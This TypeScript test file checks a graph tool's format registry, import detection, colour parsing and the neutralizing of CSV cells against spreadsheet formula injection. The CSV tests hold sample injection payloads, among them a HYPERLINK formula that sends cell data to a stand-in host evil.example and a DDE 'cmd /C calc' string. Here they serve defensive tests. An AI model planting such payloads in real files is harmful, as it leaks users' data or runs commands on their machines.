/**
 * The format registry (server/formats/index.ts) and what follows from it:
 * the model's id lists, the contract's enum, the client's menu and the
 * importer's detection agree with it; CSV cells are neutralized for
 * spreadsheets and read back; colours of a view parse.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMATS as CLIENT_MENU } from '../../client/src/export/types.ts';
import { csvField, neutralize, unneutralize } from '../../server/formats/csv/cells.ts';
import { readCsvRecords } from '../../server/formats/csv/read.ts';
import { EXPORTERS, FORMATS, IMPORTERS } from '../../server/formats/index.ts';
import { parseColor } from '../../server/formats/viz.ts';
import { detectFormat } from '../../server/import/inputs.ts';
import { EXPORT_FORMATS, ExportRequest } from '../../server/kernel/contract.ts';
import { EXPORT_FORMAT_IDS, IMPORT_FORMAT_IDS, RAW_FORMATS, VIEW_FORMATS } from '../../server/model/formats.ts';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'claimgraph-formats-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('the registry', () => {
  it('lists each format once, and the model lists exactly its readers and writers', () => {
    const ids = FORMATS.map((f) => f.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(IMPORTERS.map((f) => f.id).sort()).toEqual([...IMPORT_FORMAT_IDS].sort());
    expect(EXPORTERS.map((f) => f.id)).toEqual([...EXPORT_FORMAT_IDS]);
    expect([...EXPORT_FORMATS]).toEqual([...EXPORT_FORMAT_IDS]);
    expect(FORMATS.filter((f) => f.writer).map((f) => f.id).sort()).toEqual([...EXPORT_FORMAT_IDS].sort());
  });

  it('gives every writer a content type and an extension, and every reader the file endings it reads', () => {
    for (const f of EXPORTERS) {
      expect(f.writer.contentType, f.id).toMatch(/^[a-z]+\/[\w.+-]+(; charset=utf-8)?$/);
      expect(f.writer.extension, f.id).toMatch(/^(\.[a-z]+)+$/);
    }
    for (const f of IMPORTERS) expect(f.reader.extensions.length, f.id).toBeGreaterThan(0);
    expect(new Set(EXPORTERS.map((f) => f.writer.extension)).size).toBe(EXPORTERS.length);
  });

  it("the client's export menu has the registry's formats, labels and hints, in menu order", () => {
    expect(CLIENT_MENU.map((f) => f.format)).toEqual([...EXPORT_FORMAT_IDS]);
    for (const m of CLIENT_MENU) {
      const f = EXPORTERS.find((x) => x.id === m.format)!;
      expect({ label: m.label, hint: m.hint }).toEqual({ label: f.label, hint: f.hint });
    }
  });

  it('the contract takes raw only for csv and a view only for gexf and graphml', () => {
    expect([...RAW_FORMATS]).toEqual(['csv']);
    expect([...VIEW_FORMATS]).toEqual(['gexf', 'graphml']);
    const sel = { type: 'all' } as const;
    expect(ExportRequest.safeParse({ format: 'csv', selection: sel, raw: true }).success).toBe(true);
    const raw = ExportRequest.safeParse({ format: 'gexf', selection: sel, raw: true });
    expect(raw.success).toBe(false);
    expect(raw.error?.issues[0]).toMatchObject({ path: ['raw'], message: 'raw: only for csv' });
    const view = { nodes: { a: { x: 1, y: -2.5, size: 3, color: '#ff0000' } }, edges: { c1: { color: 'rgba(0, 0, 255, 0.5)', size: 2 } } };
    expect(ExportRequest.safeParse({ format: 'gexf', selection: sel, view }).success).toBe(true);
    expect(ExportRequest.safeParse({ format: 'graphml', selection: sel, view }).success).toBe(true);
    expect(ExportRequest.safeParse({ format: 'csv', selection: sel, view }).error?.issues[0]?.path).toEqual(['view']);
    const bad = ExportRequest.safeParse({ format: 'gexf', selection: sel, view: { nodes: { a: { x: 1, y: 2, color: 'red; x' } } } });
    expect(bad.error?.issues[0]?.path).toEqual(['view', 'nodes', 'a', 'color']);
    expect(ExportRequest.safeParse({ format: 'gexf', selection: sel, view: { nodes: { a: { x: 1 } } } }).success).toBe(false);
    expect(ExportRequest.safeParse({ format: 'gexf', selection: sel, view: { nodes: { a: { x: 1e12, y: 0 } } } }).success).toBe(false);
  });
});

describe('detection', () => {
  const cases: [string, string, string][] = [
    ['data.yaml', 'entities: []\n', 'native'],
    ['bulk.jsonl', '{"record": "entity", "id": "a"}\n', 'native'],
    ['people.csv', 'id,name\n', 'csv'],
    ['x.ftm.json', '{"id": "a", "schema": "Person", "properties": {}}\n', 'ftm'],
    ['x.ijson', '{"not": "ftm"}\n', 'ftm'],
    ['net.gexf', '<?xml version="1.0"?>\n<gexf xmlns="http://gexf.net/1.3"></gexf>\n', 'gexf'],
    ['net.xml', '<?xml version="1.0"?>\n<!-- from Gephi -->\n<gexf version="1.3"><graph/></gexf>\n', 'gexf'],
    ['net.graphml', '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"/>\n', 'graphml'],
    ['yed.xml', '<?xml version="1.0"?>\n<graphml xmlns:y="http://www.yworks.com/xml/graphml"><graph/></graphml>\n', 'graphml'],
    ['other.json', '{"entities": []}\n', 'native'],
  ];
  it.each(cases)('%s is %s', async (name, text, format) => {
    const file = path.join(dir, name);
    await writeFile(file, text);
    expect(await detectFormat(file)).toBe(format);
  });
});

describe('CSV cells safe to open in a spreadsheet (OWASP CSV injection)', () => {
  const RUNNABLE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(A1:A9)', '+1', '-2', '\tTAB', '\rCR', "'=already quoted"];

  it('prefixes every text cell a spreadsheet would run with an apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2')).toBe("'-2");
    expect(csvField('\tTAB')).toBe("'\tTAB");
    expect(csvField('\rCR')).toBe('"\'\rCR"');
    expect(csvField("'=already quoted")).toBe("''=already quoted");
    expect(csvField(['-a', 'b'])).toBe("'-a;b");
  });

  it('leaves numbers, booleans and harmless text alone; raw writes everything as it is', () => {
    expect(csvField(-2)).toBe('-2');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(false)).toBe('false');
    expect(csvField('a-b = c')).toBe('a-b = c');
    expect(csvField("it's")).toBe("it's");
    expect(csvField('=1+1', true)).toBe('=1+1');
    expect(csvField('-2', true)).toBe('-2');
  });

  it('reads a neutralized cell back as it was, and leaves other apostrophes', () => {
    for (const s of RUNNABLE) expect(unneutralize(neutralize(s))).toBe(s);
    expect(unneutralize("'hello")).toBe("'hello");
    expect(unneutralize("it's")).toBe("it's");
  });

  it('a CSV file written with neutralized cells reads back the original values', async () => {
    const file = path.join(dir, 'entities.csv');
    const values = ['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", '@SUM(A1)', '+1', '-2', "'=quoted"];
    const rows = values.map((v, i) => `e${i},${csvField(v)},concept`);
    await writeFile(file, ['id,name,kind', ...rows].join('\r\n') + '\r\n');
    const names: unknown[] = [];
    for await (const r of readCsvRecords(file, { role: 'entities', onIssue: (i) => expect.fail(i.message) })) names.push((r.value as { name: unknown }).name);
    expect(names).toEqual(values);
  });
});

describe('view colours', () => {
  it('parses #rgb, #rrggbb, #rrggbbaa, rgb() and rgba()', () => {
    expect(parseColor('#f00')).toEqual({ r: 255, g: 0, b: 0 });
    expect(parseColor('#0a0B0c')).toEqual({ r: 10, g: 11, b: 12 });
    expect(parseColor('#ff000080')).toEqual({ r: 255, g: 0, b: 0, a: 0.502 });
    expect(parseColor('rgb(1, 2, 3)')).toEqual({ r: 1, g: 2, b: 3 });
    expect(parseColor('rgba(1,2,3,0.25)')).toEqual({ r: 1, g: 2, b: 3, a: 0.25 });
    expect(parseColor('red')).toBeUndefined();
  });
});
